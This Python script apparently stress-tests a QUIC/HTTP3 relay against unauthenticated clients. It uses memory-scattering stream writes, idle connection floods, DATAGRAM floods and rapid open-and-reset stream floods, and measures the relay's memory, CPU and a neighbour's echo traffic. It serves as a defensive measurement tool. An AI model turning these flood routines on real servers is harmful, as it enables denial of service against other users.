"""Measures what clients without credentials can take from a relay: memory, places, and time for others.

  memory       connections that write a byte into each 4 KiB of all their streams' windows, until the relay ends them
  places       connections without requests
  datagrams    a request that never ends, and DATAGRAM frames for it, while a user of another connection has an echo
  resets       streams opened and reset in the same packet, by a stranger and by a client with a tunnel, while a
               user of another connection has an echo

Prints one line of JSON for each. Memory is the resident set of the relay's process, at its highest during the attack.
"""

import argparse
import asyncio
import json
import sys
import time
from collections import Counter
from contextlib import AsyncExitStack
from pathlib import Path

from aioquic.h3.connection import ErrorCode
from aioquic.quic.packet import QuicFrameType

import wire
from hostile import HostileClient, Relay, origin
from relay_options import RelayOptions, add_relay_options, relay_options
from udp_echo import udp_echo
from wire import varint

BLOCK_BYTES = 4096
"""The smallest piece of memory that s2n-quic allocates for bytes of a stream."""

AT_ONCE = 50
"""The number of simultaneous connection attempts."""


def resident_kib(pid: int) -> int:
    """A process's memory in RAM."""
    lines = Path(f"/proc/{pid}/status").read_text().splitlines()
    return next(int(line.split()[1]) for line in lines if line.startswith("VmRSS:"))


async def connect(server: RelayOptions, stack: AsyncExitStack) -> HostileClient | None:
    """A connection that stays open, or None if the relay refuses it."""
    try:
        async with asyncio.timeout(5):
            return await stack.enter_async_context(HostileClient.open(server, True))
    except (ConnectionError, TimeoutError):
        return None


async def connections(server: RelayOptions, count: int, stack: AsyncExitStack) -> list[HostileClient]:
    """The connections that the relay accepts, out of this many attempts."""
    accepted = []
    for first in range(0, count, AT_ONCE):
        attempts = range(min(AT_ONCE, count - first))
        made = await asyncio.gather(*(connect(server, stack) for _ in attempts))
        accepted += [client for client in made if client]
    return accepted


async def scatter(client: HostileClient) -> int:
    """Writes a byte into each block that flow control allows on 16 streams; returns the number of bytes sent."""
    sent = 0
    for stream in [4 * number for number in range(8)] + [14 + 4 * number for number in range(8)]:
        for first in range(0, 256, 40):
            if client.terminated:
                return sent
            blocks = range(first, min(first + 40, 256))
            frames = [wire.stream_frame(stream, block * BLOCK_BYTES + 1, b"\0") for block in blocks]
            client.packet(b"".join(frames))
            sent += sum(map(len, frames))
            await asyncio.sleep(0)
    return sent


async def memory(server: RelayOptions, options: argparse.Namespace) -> dict[str, object]:
    """The memory that strangers make the relay use."""
    async with AsyncExitStack() as stack:
        before, began = resident_kib(options.pid), time.monotonic()
        clients = await connections(server, options.connections, stack)
        connected = resident_kib(options.pid)
        sent = sum(await asyncio.gather(*map(scatter, clients)))
        highest = resident_kib(options.pid)
        for _ in range(20):
            await asyncio.sleep(0.1)
            highest = max(highest, resident_kib(options.pid))
        return {
            "attempts": options.connections,
            "accepted": len(clients),
            "ended_by_relay": sum(client.terminated is not None for client in clients),
            "sent_bytes": sent,
            "before_kib": before,
            "connected_kib": connected,
            "highest_kib": highest,
            "seconds": round(time.monotonic() - began, 1),
        }


async def places(server: RelayOptions, options: argparse.Namespace) -> dict[str, object]:
    """The number of places that strangers get, and for how long."""
    async with AsyncExitStack() as stack:
        before, began = resident_kib(options.pid), time.monotonic()
        clients = await connections(server, options.connections, stack)
        took, held = time.monotonic() - began, resident_kib(options.pid)
        ended = [client.until(lambda client=client: client.terminated, 60) for client in clients]
        await asyncio.gather(*ended)
        return {
            "attempts": options.connections,
            "accepted": len(clients),
            "seconds": round(took, 1),
            "before_kib": before,
            "highest_kib": max(held, resident_kib(options.pid)),
            "ended_by_relay": sum(client.terminated is not None for client in clients),
            "last_ended_after_seconds": round(time.monotonic() - began, 1),
        }


async def datagrams(server: RelayOptions, options: argparse.Namespace) -> dict[str, object]:
    """The cost to a neighbour of a flood of DATAGRAM frames for a request that never ends."""
    relay = Relay(options.pid)
    async with AsyncExitStack() as stack:
        host, port = await stack.enter_async_context(udp_echo())
        user, stranger = [
            await stack.enter_async_context(HostileClient.open(server, True)) for _ in range(2)
        ]
        for client in (user, stranger):
            client.relay, client.path = server, server.path(host, port)
            client.start()
        tunnel = await user.tunnel()
        stranger.bidi(b"\x01\x40")
        frames = b"".join(b"\x31\x03" + varint(0) + b"\0" + b"x" for _ in range(260))
        cpu_ns, echoes, packets, began = relay.cpu_ns(), 0, 0, time.monotonic()
        while (passed := time.monotonic() - began) < options.seconds:
            # Per second, 700 packets of 1,300 bytes, and 100 payloads of the neighbour.
            while packets < 700 * passed and not stranger.terminated:
                stranger.packet(frames)
                packets += 1
            user.datagram(varint(tunnel // 4) + wire.udp_payload(b"payload"))
            echoes += 1
            await asyncio.sleep(0.01)
        await asyncio.sleep(0.5)
        return {
            "hostile_packets": packets,
            "stranger_ended_by": str(stranger._lost()),
            "echoes_asked": echoes,
            "echoes_back": len(user.received[tunnel].payloads),
            "relay_cpu_s": round((relay.cpu_ns() - cpu_ns) / 1e9, 3),
        }


IN_FLIGHT = 16
"""The most unacknowledged packets of resets: few enough for the queue of the relay's socket."""

RESETS_IN_A_PACKET = 70


def open_and_reset(stream: int) -> bytes:
    """Frames that open a stream with the beginning of a request, and reset it (RFC 9000 §19.4)."""
    begun = b"\x01\x40"
    code = varint(ErrorCode.H3_REQUEST_CANCELLED)
    return wire.stream_frame(stream, 0, begun) + b"\x04" + varint(stream) + code + varint(len(begun))


def ignore_answers(client: HostileClient) -> None:
    """Makes the client ignore the relay's frames about streams opened by hand, which would be errors otherwise."""

    def skipping(numbers: int):
        def skip(_context, _kind, buffer) -> None:
            for _ in range(numbers):
                buffer.pull_uint_var()

        return skip

    handlers = client._quic._QuicConnection__frame_handlers
    for kind, numbers in ((QuicFrameType.RESET_STREAM, 3), (QuicFrameType.STOP_SENDING, 2)):
        handlers[kind] = (skipping(numbers), handlers[kind][1])


async def reset_streams(client: HostileClient, first: int, seconds: float) -> int:
    """Opens and resets streams as fast as the relay allows; returns their number."""
    ignore_answers(client)
    number, packets, acknowledged = first, 0, len(client.acknowledged)
    until = time.monotonic() + seconds
    while time.monotonic() < until and not client.terminated:
        room = min(client._quic._remote_max_streams_bidi - number, RESETS_IN_A_PACKET)
        if room > 0 and packets < len(client.acknowledged) - acknowledged + IN_FLIGHT:
            client.packet(b"".join(open_and_reset(4 * (number + at)) for at in range(room)))
            number, packets = number + room, packets + 1
            await asyncio.sleep(0)
        else:
            await asyncio.sleep(0.0005)
    return number - first


async def ask_echo(client: HostileClient, tunnel: int, counts: Counter[str]) -> None:
    """Sends a payload every 10 ms."""
    while True:
        client.datagram(varint(tunnel // 4) + wire.udp_payload(b"payload"))
        counts["asked"] += 1
        await asyncio.sleep(0.01)


async def resets(server: RelayOptions, options: argparse.Namespace) -> dict[str, object]:
    """The number of streams opened and reset, and the cost to the relay and a neighbour."""
    relay = Relay(options.pid)
    async with AsyncExitStack() as stack:
        host, port = await stack.enter_async_context(udp_echo())
        clients = [await stack.enter_async_context(HostileClient.open(server, True)) for _ in range(3)]
        for client in clients:
            client.relay, client.path = server, server.path(host, port)
            client.start()
        neighbour, user, stranger = clients
        tunnel, counts = await neighbour.tunnel(), Counter()
        await user.tunnel()
        echoes = asyncio.create_task(ask_echo(neighbour, tunnel, counts))
        by_stranger = await reset_streams(stranger, 0, options.seconds)
        cpu_ns, began = relay.cpu_ns(), time.monotonic()
        by_user = await reset_streams(user, 1, options.seconds)
        seconds, cpu_s = time.monotonic() - began, (relay.cpu_ns() - cpu_ns) / 1e9
        echoes.cancel()
        await asyncio.sleep(0.5)
        return {
            "streams_of_stranger": by_stranger,
            "stranger_ended_by": str(stranger._lost()),
            "streams_of_user": by_user,
            "user_ended_by": str(user._lost()),
            "seconds": round(seconds, 1),
            "streams_of_user_per_s": round(by_user / seconds),
            "relay_cpu_percent": round(100 * cpu_s / seconds, 1),
            "relay_cpu_us_per_stream": round(1e6 * cpu_s / max(by_user, 1), 2),
            "echoes_asked": counts["asked"],
            "echoes_back": len(neighbour.received[tunnel].payloads),
        }


KINDS = {"memory": memory, "places": places, "datagrams": datagrams, "resets": resets}


async def run(options: argparse.Namespace) -> int:
    """Measures the requested kinds."""
    server = relay_options(options)
    for name in options.kinds or KINDS:
        row = origin(options) | {"plan": "strangers", "config": name}
        print(json.dumps(row | await KINDS[name](server, options)), flush=True)
    return 0


def main() -> int:
    """Runs the program; returns its exit status."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    add_relay_options(parser)
    parser.add_argument("kinds", nargs="*", choices=[*KINDS, []], help="the kinds to measure; without any, all")
    parser.add_argument("--pid", type=int, required=True, help="the relay's process")
    parser.add_argument("--connections", type=int, default=400, help="attempts to connect")
    parser.add_argument("--seconds", type=float, default=10, help="the time for which datagrams or resets are sent")
    options = parser.parse_args()
    options.clock, options.seed = "wall", None
    return asyncio.run(run(options))


if __name__ == "__main__":
    sys.exit(main())
